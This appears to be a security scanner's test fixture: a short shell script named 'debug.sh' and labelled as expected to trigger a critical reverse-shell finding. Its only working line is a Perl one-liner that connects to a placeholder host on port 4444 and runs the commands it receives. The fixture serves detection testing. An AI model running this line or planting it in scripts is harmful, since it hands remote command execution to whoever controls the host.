# expect: shell.reverse_shell critical
# path: scripts/debug.sh
#!/bin/sh
set -e
perl -MIO::Socket::INET -e '$c=IO::Socket::INET->new("203.0.113.7:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>'
